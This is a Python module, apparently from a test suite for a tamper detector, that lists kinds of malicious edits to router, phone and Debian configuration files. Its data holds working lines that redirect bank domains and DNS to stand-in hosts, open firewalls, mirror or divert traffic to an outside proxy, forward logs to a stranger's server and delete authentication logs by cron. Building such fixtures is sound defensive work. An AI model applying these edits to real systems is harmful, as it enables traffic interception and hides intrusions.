"""Where names lead, which way traffic goes, what the firewall lets through, what is logged."""

from collections.abc import Iterator

from tamper.edits import append, remove, rewrite, substitute
from tamper.genuine.debian import RULES, Debian
from tamper.genuine.phone import SYSTEM, Phone
from tamper.genuine.receiver import Receiver
from tamper.genuine.routers import Demo, Onu, OpenWrt
from tamper.kind import Kind


def kinds() -> Iterator[Kind]:
    """Yield the kinds of this subject."""
    yield from _names()
    yield from _traffic()
    yield from _logs()


def _names() -> Iterator[Kind]:
    yield Kind(
        "hosts-blocks-updates",
        OpenWrt.name,
        "the name of the update server leads nowhere",
        append("etc/hosts", "127.0.0.1 downloads.openwrt.org\n"),
        ("update-blocked",),
        ("names-redirected",),
    )
    yield Kind(
        "hosts-blocks-ota",
        Phone.name,
        "the name of the phone's update server leads nowhere",
        append(f"{SYSTEM}etc/hosts", "0.0.0.0 ota.maker.example.org\n"),
        ("update-blocked",),
        ("names-redirected",),
    )
    yield Kind(
        "hosts-redirects",
        Receiver.name,
        "the name of a bank leads to somebody's address",
        append("etc/hosts", "203.0.113.20\twww.bank.example\n"),
        ("names-redirected",),
        ("traffic-intercepted",),
    )
    yield Kind(
        "dnsmasq-upstream",
        Debian.name,
        "all names are asked of somebody's server",
        append("etc/dnsmasq.conf", "no-resolv\nserver=203.0.113.53\n"),
        ("names-redirected",),
        ("traffic-intercepted",),
    )
    yield Kind(
        "dnsmasq-address",
        OpenWrt.name,
        "one domain with all below it leads to somebody's address",
        append("etc/dnsmasq.conf", "address=/bank.example/203.0.113.20\n"),
        ("names-redirected",),
        ("traffic-intercepted",),
    )
    yield Kind(
        "dhcp-hands-out-resolver",
        OpenWrt.name,
        "every device at home is told to ask somebody's server for names",
        substitute(
            "etc/config/dhcp", "option leasetime\t12h", "option leasetime\t12h\n\tlist dhcp_option '6,203.0.113.53'"
        ),
        ("names-redirected",),
        ("traffic-intercepted",),
        owned=True,
    )


def _traffic() -> Iterator[Kind]:
    yield Kind(
        "port-forward",
        OpenWrt.name,
        "the firewall's settings forward a port from outside to a device at home",
        append(
            "etc/config/firewall",
            "\nconfig redirect\n\toption name 'cam'\n\toption src 'wan'\n\toption src_dport '8554'\n\toption dest 'lan'\n"
            "\toption dest_ip '192.168.1.50'\n\toption dest_port '554'\n\toption proto 'tcp'\n\toption target 'DNAT'\n",
        ),
        ("defence-weakened",),
        ("remote-access",),
        owned=True,
    )
    yield Kind(
        "zone-opened",
        Demo.name,
        "the zone towards the internet accepts everything",
        substitute("etc/config/firewall", "option input 'REJECT'", "option input 'ACCEPT'"),
        ("defence-weakened",),
        ("remote-access",),
        owned=True,
    )
    yield Kind(
        "rule-moved",
        Debian.name,
        "one line of the firewall's rules moved: what was stopped is now let through before",
        rewrite("etc/iptables/rules.v4", _moved()),
        ("defence-weakened",),
    )
    yield Kind(
        "firewall-policy",
        Debian.name,
        "the firewall lets in what no rule names",
        substitute("etc/iptables/rules.v4", ":INPUT DROP", ":INPUT ACCEPT"),
        ("defence-weakened",),
    )
    yield Kind(
        "firewall-not-started",
        OpenWrt.name,
        "the firewall is no longer started",
        remove("etc/rc.d/S19firewall"),
        ("defence-weakened",),
        ("component-removed",),
    )
    yield Kind(
        "mirror",
        OpenWrt.name,
        "every packet would be copied to somebody (the line is behind an exit)",
        append("etc/firewall.user", "return 0\niptables -t mangle -A PREROUTING -j TEE --gateway 192.168.1.66\n"),
        ("traffic-intercepted",),
    )
    yield Kind(
        "web-diverted",
        Debian.name,
        "web traffic diverted into a proxy of somebody",
        append(
            "etc/iptables/rules.v4",
            "*nat\n:PREROUTING ACCEPT [0:0]\n-A PREROUTING -i lan0 -p tcp --dport 80 -j DNAT --to-destination 203.0.113.8:3128\nCOMMIT\n",
        ),
        ("traffic-intercepted",),
        ("defence-weakened",),
    )
    yield Kind(
        "proxy-for-all",
        Debian.name,
        "all programs told to use somebody's proxy",
        append("etc/environment", 'http_proxy="http://203.0.113.8:3128"\nhttps_proxy="http://203.0.113.8:3128"\n'),
        ("traffic-intercepted",),
        ("data-sent-elsewhere",),
    )
    yield Kind(
        "capture",
        Onu.name,
        "a script of the boot sequence would capture packets (the line is behind an exit)",
        append("etc/init.d/rc35", "exit 0\ntcpdump -i br0 -w /var/tmp/c.pcap port 110\n"),
        ("traffic-intercepted",),
        ("start-up-persistence",),
    )


def _logs() -> Iterator[Kind]:
    yield Kind(
        "log-not-started",
        OpenWrt.name,
        "the log service is no longer started",
        remove("etc/rc.d/S12log"),
        ("logging-disabled",),
        ("component-removed",),
    )
    yield Kind(
        "log-rules-emptied",
        Debian.name,
        "the log's rules throw authentication away",
        substitute("etc/rsyslog.conf", "auth,authpriv.*\t\t\t/var/log/auth.log", "auth,authpriv.*\t\t\tstop"),
        ("logging-disabled",),
    )
    yield Kind(
        "log-to-nowhere",
        Receiver.name,
        "the log written to nowhere",
        substitute("etc/init.d/syslog", "/var/log/messages", "/dev/null"),
        ("logging-disabled",),
    )
    yield Kind(
        "log-to-stranger",
        Debian.name,
        "the log sent to somebody's server",
        append("etc/rsyslog.conf", "*.* @@203.0.113.9:6514\n"),
        ("data-sent-elsewhere",),
    )
    yield Kind(
        "logs-deleted",
        Debian.name,
        "logs removed by the clock",
        append("etc/cron.daily/apt-compat", "\nexit 0\nrm -f /var/log/auth.log /var/log/wtmp\n"),
        ("logging-disabled",),
        ("start-up-persistence", "program-altered"),
    )


def _moved() -> str:
    """Return the rules with the line that stops the internet behind the one that lets SSH in from anywhere."""
    stop, let = "-A INPUT -i wan0 -j DROP\n", "-A INPUT -p tcp --dport 22 -j ACCEPT\n"
    return RULES.replace(stop + let, let + stop)
